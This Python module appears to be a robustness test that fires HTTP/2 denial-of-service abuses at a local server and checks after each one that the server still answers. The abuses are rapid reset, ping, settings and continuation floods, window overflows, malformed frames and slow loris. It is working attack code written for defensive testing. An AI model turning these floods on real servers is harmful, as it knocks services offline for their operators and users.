"""Abuses of HTTP/2: floods, frames out of order, calls that never end. Each has its own connection.

Sources: RFC 9113, section 10.5; the "rapid reset", "settings flood", "ping flood" and "continuation flood" advisories.
"""

import asyncio
import struct
from collections.abc import Awaitable, Callable, Mapping

from attack.target import Server
from tests.serving.http2 import (
    ACK,
    CONTINUATION,
    DATA,
    END_HEADERS,
    GOAWAY,
    HEADERS,
    PING,
    PREFACE,
    PRIORITY,
    PUSH_PROMISE,
    RST_STREAM,
    SETTINGS,
    WINDOW_UPDATE,
    Connection,
    fields,
    frame,
    message,
    request,
    settings,
)

FROM = "127.0.0.3"
_FLOOD = 5000
_HELD_SECONDS = 1.0
CONVERSE = "/bridge.v1.DialogueService/Converse"
RECOGNIZE = "/bridge.v1.RecognitionService/Recognize"
PROBE = "/bridge.v1.BridgeService/Probe"
STATS = "/bridge.v1.BridgeService/GetStats"


async def resets(connection: Connection) -> None:
    """Rapid reset: calls that are reset as soon as they are opened."""
    for number in range(_FLOOD):
        stream = connection.open((CONVERSE, RECOGNIZE, PROBE, STATS)[number % 4])
        connection.send(frame(RST_STREAM, struct.pack(">I", 8), stream=stream))
        if number % 100 == 0:
            await connection.drain()


async def _flood(connection: Connection, data: bytes) -> None:
    for _ in range(_FLOOD // 100):
        connection.send(data * 100)
        await connection.drain()


async def pings(connection: Connection) -> None:
    await _flood(connection, frame(PING, bytes(8)))


async def settings_floods(connection: Connection) -> None:
    await _flood(connection, settings(window=65535) + frame(SETTINGS, flags=ACK))


async def table_sizes(connection: Connection) -> None:
    """The header table is resized again and again."""
    await _flood(connection, frame(SETTINGS, struct.pack(">HIHI", 1, 0, 1, 2**32 - 1)))


async def priorities(connection: Connection) -> None:
    await _flood(connection, frame(PRIORITY, struct.pack(">IB", 1, 16), stream=3))


async def empty_data(connection: Connection) -> None:
    stream = connection.open(PROBE)
    await _flood(connection, frame(DATA, stream=stream))


async def windows(connection: Connection) -> None:
    """A window that closes and opens while answers are pending, then one that overflows."""
    for _ in range(50):
        connection.call(STATS)
    for number in range(200):
        connection.send(settings(window=number % 2))
    await connection.drain()
    connection.send(frame(WINDOW_UPDATE, struct.pack(">I", 2**31 - 1)) * 3)


async def no_increment(connection: Connection) -> None:
    connection.send(frame(WINDOW_UPDATE, bytes(4)))


async def continuations(connection: Connection) -> None:
    """Continuation flood: headers that never end."""
    connection.send(frame(HEADERS, request(CONVERSE), stream=1))
    part = frame(CONTINUATION, fields([("x", "y" * 100)]) * 100, stream=1)
    for _ in range(500):
        connection.send(part)
        await connection.drain()


async def many_headers(connection: Connection) -> None:
    parts = fields([(f"x-{number}", "y") for number in range(1000)])
    connection.send(frame(HEADERS, request(STATS) + parts, stream=1, flags=END_HEADERS))


async def half_open(connection: Connection) -> None:
    """Streams up to the limit, each with half a message or none."""
    for number in range(500):
        stream = connection.open((CONVERSE, RECOGNIZE, PROBE)[number % 3])
        if number % 2:
            connection.send(frame(DATA, message(bytes(64))[:20], stream=stream))
    await connection.drain()


async def too_many(connection: Connection) -> None:
    for _ in range(2000):
        connection.open(CONVERSE)
    await connection.drain()


async def out_of_order(connection: Connection) -> None:
    """Frames that are not allowed where they are."""
    connection.send(
        frame(DATA, b"x", stream=7) + frame(PUSH_PROMISE, bytes(4), stream=1) + frame(HEADERS, b"\xff" * 20)
    )


async def unknown_frames(connection: Connection) -> None:
    connection.send(b"".join(frame(kind, bytes(64), stream=kind) for kind in range(10, 256)))


async def goaway(connection: Connection) -> None:
    connection.call(PROBE)
    connection.send(frame(GOAWAY, bytes(8)) * 100)


async def huge_frame(connection: Connection) -> None:
    connection.send(b"\xff\xff\xff" + bytes((DATA, 0)) + bytes(4) + bytes(100_000))


async def huge_message(connection: Connection) -> None:
    """Messages that announce 4 GiB and send 1000 bytes."""
    for _ in range(20):
        stream = connection.open(RECOGNIZE)
        connection.send(frame(DATA, b"\0\xff\xff\xff\xff" + bytes(1000), stream=stream))


async def compressed(connection: Connection) -> None:
    """A message with the compressed flag on a call without compression."""
    connection.send(frame(DATA, b"\1" + message(bytes(50))[1:], stream=connection.open(STATS), flags=1))


ABUSES: Mapping[str, Callable[[Connection], Awaitable[None]]] = {
    abuse.__name__: abuse
    for abuse in (
        resets,
        pings,
        settings_floods,
        table_sizes,
        priorities,
        empty_data,
        windows,
        no_increment,
        continuations,
        many_headers,
        half_open,
        too_many,
        out_of_order,
        unknown_frames,
        goaway,
        huge_frame,
        huge_message,
        compressed,
    )
}


async def commit(name: str, port: int) -> None:
    """Run one abuse, then keep the connection open for a second."""
    async with Connection(port, local=FROM) as connection:
        await ABUSES[name](connection)
        await connection.drain()
        await asyncio.sleep(_HELD_SECONDS)


async def slow_headers(port: int, count: int = 50) -> None:
    """Slow loris: connections that send the preface one byte at a time, and nothing after it."""
    pairs = [await asyncio.open_connection("127.0.0.1", port, local_addr=(FROM, 0)) for _ in range(count)]
    for at in range(20):
        for _, writer in pairs:
            writer.write(PREFACE[at : at + 1])
        await asyncio.sleep(_HELD_SECONDS / 20)
    for _, writer in pairs:
        writer.transport.abort()


async def abused(server: Server) -> None:
    """Run every abuse; Died if the server no longer answers after one."""
    for name in ABUSES:
        await commit(name, server.port)
        await server.alive(name)
        print(f"{name}: the server answers", flush=True)
    await slow_headers(server.port)
    await server.alive("slow headers")
